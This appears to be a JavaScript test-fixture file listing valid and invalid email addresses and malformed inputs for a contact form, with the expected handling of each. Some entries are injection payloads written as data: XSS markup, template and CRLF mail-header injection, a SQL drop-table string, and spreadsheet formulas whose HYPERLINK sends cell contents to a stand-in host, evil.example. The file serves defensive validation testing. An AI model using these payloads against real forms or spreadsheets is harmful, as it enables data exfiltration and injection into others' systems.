// @ts-check
/**
 * The bad input of the corpus that can be typed (items 1 to 40), by number: what a visitor puts into
 * the form, and what comes of it. Asked of the form in three engines, and of the form with the real
 * receiver behind it.
 */

/**
 * @typedef {object} Typed
 * @property {number} item
 * @property {string} title
 * @property {Readonly<Record<string, string>>} fields what is put into the form
 * @property {readonly string[]} [errors] fields that are named, and nothing is sent
 * @property {Readonly<Record<string, string>>} [sent] what arrives where it differs
 */

/** One of each kind that a check of addresses stumbles over. */
export const GOOD_ADDRESSES = [
  ...['ann@example.org', 'ANN@EXAMPLE.ORG', 'ann.lee@example.org', "o'neill@example.org"],
  ...['ann@mail.example.co.uk', 'ann+police@example.org', '1234567@example.org', 'a@ex-ample.org'],
  ...['____@example.org', 'ann@example.museum', 'ann-lee@example.org', 'ann@double--dash.org'],
  ...['siân@enghraifft.cymru', 'info@vermögen.beratung', '案内@例え.テスト', 'a@b.co'],
  'ann@example.averylongendingthatnobodyhas',
];
/** None of these can work; an endpoint is more forgiving, and may take some. */
export const BAD_ADDRESSES = [
  ...['ann', '@example.org', 'ann.example.org', 'ann@example', 'ann@', 'ann lee@example.org'],
  ...['ann@exam ple.org', 'ann@lee@example.org', 'Ann <ann@example.org> Lee', 'ann@example.'],
  ...[
    'ann@.example.org',
    'ann@example..org',
    '.ann@example.org',
    'ann.@example.org',
    'a..b@example.org',
  ],
  ...['ann@-example.org', 'ann@example-.org', 'ann@example.1', 'ann@10.0.0.1', 'ann@[10.0.0.1]'],
  ...['(ann)@example.org', '"ann"@example.org', 'ann,lee@example.org', 'ann;lee@example.org'],
  ...[
    'ann:lee@example.org',
    'ann@example.org, lee@example.org',
    'mailto:ann@example.org',
    'ann\\@example.org',
  ],
  ...[
    '<ann@example.org>',
    'ann@exam_ple.org',
    'ann@example,org',
    'ann@example.o',
    'ann@example/org',
  ],
  ...[`${'a'.repeat(65)}@example.org`, `ann@${'a'.repeat(64)}.org`],
];

const MESSAGE = 'Hello';
const NONE = ['message'];

/** @param {number} item @param {string} title @param {string} message @param {string} [sent] @returns {Typed} */
const goes = (item, title, message, sent = message) => ({
  ...{ item, title, fields: { message } },
  ...(sent === message ? {} : { sent: { message: sent } }),
});
/** @param {number} item @param {string} title @param {string} message @returns {Typed} */
const isRefused = (item, title, message) => ({ item, title, fields: { message }, errors: NONE });
/** @param {number} item @param {string} title @param {Record<string, string>} fields @param {readonly string[] | Record<string, string>} [end] @returns {Typed} */
const field = (item, title, fields, end = {}) => ({
  ...{ item, title, fields: { message: MESSAGE, ...fields } },
  ...(Array.isArray(end) ? { errors: end } : { sent: /** @type {Record<string, string>} */ (end) }),
});
/** @param {string} email */
const byEmail = email => ({ email, reply_by: 'email' });
/** @param {string} phone */
const byPhone = phone => ({ phone, reply_by: 'phone' });

/** @type {readonly Typed[]} */
export const TYPED = [
  isRefused(1, 'empty', ''),
  isRefused(2, 'spaces only', '   \n  \t '),
  isRefused(3, 'no-break and ideographic spaces only', '\u00a0\u3000\u2003'),
  isRefused(4, 'zero-width characters only', '\u200b\u200d\u2060\ufeff'),
  isRefused(5, '10,000 characters', 'x'.repeat(10_000)),
  isRefused(6, '1,000,000 characters', 'x'.repeat(1_000_000)),
  goes(7, 'the limit exactly', 'x'.repeat(2000)),
  isRefused(8, 'the limit and one', 'x'.repeat(2001)),
  goes(9, 'the limit made of line ends', `a${'\n'.repeat(1998)}b`),
  goes(10, 'CR, LF, CR LF and NEL mixed', 'a\rb\nc\r\nd\u0085e', 'a\nb\nc\nd\ne'),
  goes(11, 'NUL inside', 'a\0b', 'ab'),
  goes(12, 'other controls of C0 and C1, DEL', 'a\u0001\u001b[31mb\u007f\u009fc', 'a[31mbc'),
  goes(13, 'lone surrogates', 'a\ud800b\udc00c', 'a\ufffdb\ufffdc'),
  goes(14, 'families, flags, tones of skin', '👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 👍🏽'),
  goes(14, 'counted by code points', '👍'.repeat(2000)),
  isRefused(14, 'one code point more', '👍'.repeat(2001)),
  goes(15, 'a hundred stacked marks', `x${'\u0317'.repeat(100)}`),
  goes(16, 'direction marks without their end', '\u202eevil\u2066 \u202dmore'),
  goes(17, 'Arabic and Hebrew with digits', 'رقم 07700 900123 שלום 999'),
  goes(18, 'decomposed letters', 'Sia\u0302n, S\u0323\u0307', 'Siân, Ṩ'),
  goes(19, 'markup', '<script>alert(1)</script><img src=x onerror=alert(1)> javascript:alert(1)'),
  goes(20, 'templates and mail headers', '{{7*7}} ${x} #{x} %0d%0aBcc: a@example.org'),
  ...['=', '+', '-', '@'].map(sign =>
    goes(21, `a formula: ${sign}`, `${sign}HYPERLINK("https://evil.example?"&A1)`),
  ),
  goes(22, 'quotes, backslashes, SQL', `"'\\ '; drop table enquiries; --`),
  goes(23, 'a paste from a word processor', '“Smart” – quotes…\tsoft\u00adhyphen\u00a0space'),
  isRefused(24, 'one word of 5,000 characters', 'w'.repeat(5000)),
  goes(24, 'one word as long as may be', 'w'.repeat(2000)),
  field(25, 'an address that works', byEmail('ann@example.org')),
  field(25, 'an address that can’t work', byEmail('ann@example'), ['email']),
  field(26, 'an address of 254 characters', byEmail(`a@${`${'b'.repeat(49)}.`.repeat(5)}co`)),
  field(26, 'one of 255', byEmail(`a@${`${'b'.repeat(49)}.`.repeat(5)}com`), ['email']),
  field(27, 'an address with a zero-width space', byEmail('ann@example.org\u200b'), {
    email: 'ann@example.org',
  }),
  field(28, 'an international address', byEmail('ann@bücher.example')),
  field(29, 'a number as people write it', byPhone('+44 (0)7700 900982 ext 12')),
  ...[7, 8, 15].map(digits => field(30, `${digits} digits`, byPhone('1'.repeat(digits)))),
  ...[6, 16].map(digits => field(30, `${digits} digits`, byPhone('1'.repeat(digits)), ['phone'])),
  field(31, 'Arabic-Indic digits', byPhone('٠٧٧٠٠٩٠٠١٢٣')),
  ...['X', "O'Brien-Nkemelu", '12345', 'ياسمين'].map(name =>
    field(32, `a name: ${name}`, { name }),
  ),
  field(32, 'a name of 500 characters', { name: 'n'.repeat(500) }, ['name']),
  field(39, 'a reply by phone without a phone', byPhone(''), ['phone']),
  field(39, 'a reply by email without an address', byEmail(' \u200b '), ['email']),
];
